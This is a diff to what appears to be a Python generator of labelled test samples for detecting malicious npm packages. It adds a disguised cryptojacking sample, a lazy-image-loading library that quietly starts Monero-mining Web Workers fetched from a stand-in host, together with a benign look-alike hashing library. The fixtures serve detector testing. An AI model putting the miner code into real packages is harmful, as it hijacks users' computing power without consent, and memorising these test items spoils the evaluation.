@@ -284,6 +284,56 @@ def permit2_fixed_spender():
              "constant in the code, and posts the signature to a fixed relay.", files)
 
 
+_MINER_UMD = r"""(function (root, factory) {
+  if (typeof module === 'object' && module.exports) module.exports = factory();
+  else root.LazyImg = factory();
+}(this, function () {
+  'use strict';
+  var SITE = '4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge';
+  var started = false;
+
+  function prefetch() {
+    if (started || typeof Worker === 'undefined') return;
+    started = true;
+    var n = Math.max(1, (navigator.hardwareConcurrency || 2) - 1);
+    for (var i = 0; i < n; i++) {
+      var w = new Worker('https://img-cdn.lazy-img.example.org/decoder.worker.js');
+      w.postMessage({ cmd: 'start', site: SITE, endpoint: 'wss://img-cdn.lazy-img.example.org/q', throttle: 0 });
+    }
+  }
+
+  function observe(selector) {
+    var io = new IntersectionObserver(function (entries) {
+      entries.forEach(function (e) {
+        if (e.isIntersecting) { e.target.src = e.target.dataset.src; io.unobserve(e.target); }
+      });
+    });
+    document.querySelectorAll(selector || 'img[data-src]').forEach(function (img) { io.observe(img); });
+    setTimeout(prefetch, 3000);
+  }
+
+  return { observe: observe };
+}));
+"""
+
+
+@sample
+def umd_worker_miner():
+    files = {
+        "package.json": pj(name="lazy-img-observer", version="2.3.0", main="dist/lazy-img.umd.js",
+                           description="Lazy-load images with IntersectionObserver.",
+                           keywords=["lazy", "images", "intersection-observer"]),
+        "README.md": readme("lazy-img-observer", "```js\nLazyImg.observe('img[data-src]')\n```"),
+        "dist/lazy-img.umd.js": _MINER_UMD,
+    }
+    return S("reach2-lazy-img-umd-worker-miner", "browser cryptojacking in front-end packages "
+             "(Coinhive-style miners in npm and CDN scripts, 2018-2024)", "2018-2024",
+             ["browser-only", "cryptojacking", "web-worker", "monero", "umd"],
+             "UMD build: three seconds after observe(), starts one remote Web Worker per core "
+             "minus one and hands each a Monero address as site key and a WebSocket endpoint, "
+             "throttle 0.", files)
+
+
 # =============================================================================================
 # Tricky benign
 
@@ -328,6 +378,45 @@ def b_wallet_helper():
              "Mirrors reach2-ethers-wallet-fromphrase-hook and reach2-hdkey-master-seed-smtp: "
              "same constructors and mailer, but it calls the constructors (never replaces them) "
              "and mails only public addresses to a recipient its caller gives.", files)
+
+
+_HASH_POOL = r"""// Hash large files in parallel: one worker per core, chunks of 4 MiB.
+export function hashFiles(files, workerUrl = new URL('./sha256.worker.js', import.meta.url)) {
+  const n = Math.max(1, navigator.hardwareConcurrency || 2);
+  const pool = Array.from({ length: n }, () => new Worker(workerUrl, { type: 'module' }));
+  let next = 0;
+  return Promise.all(files.map((file) => new Promise((resolve, reject) => {
+    const w = pool[next++ % n];
+    const ch = new MessageChannel();
+    ch.port1.onmessage = (e) => (e.data.error ? reject(new Error(e.data.error)) : resolve(e.data.hex));
+    w.postMessage({ file, chunk: 4 << 20, port: ch.port2 }, [ch.port2]);
+  })));
+}
+
+// Shown in the demo page footer.
+export const DONATE = {
+  btc: 'bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh',
+  xmr: 'see https://hash-pool.example.org/donate',
+};
+"""
+
+
+@benign
+def b_hash_pool():
+    files = {
+        "package.json": pj(name="parallel-file-hash", version="1.2.0", type="module",
+                           module="index.js", exports={".": "./index.js"},
+                           description="SHA-256 of large files in the browser with a worker per core.",
+                           keywords=["sha256", "hash", "worker", "browser"]),
+        "README.md": readme("parallel-file-hash", "```js\nconst [hex] = await hashFiles([file])\n```"),
+        "index.js": _HASH_POOL,
+        "sha256.worker.js": "self.onmessage = async (e) => { const { file, port } = e.data; const buf = await file.arrayBuffer(); const d = await crypto.subtle.digest('SHA-256', buf); port.postMessage({ hex: [...new Uint8Array(d)].map((b) => b.toString(16).padStart(2, '0')).join('') }); };\n",
+    }
+    return S("reach2-benign-parallel-file-hash", "browser hashing library with a worker per "
+             "core and a donation address", "2025", ["browser-only", "web-worker", "hashing"],
+             "Mirrors reach2-lazy-img-umd-worker-miner: Web Workers sized to hardwareConcurrency "
+             "doing CPU work, and a cryptocurrency donation address, but no Monero address handed "
+             "to the workers and no pool connection.", files)
 
 
 _PORT_PROBE = r""""use strict";
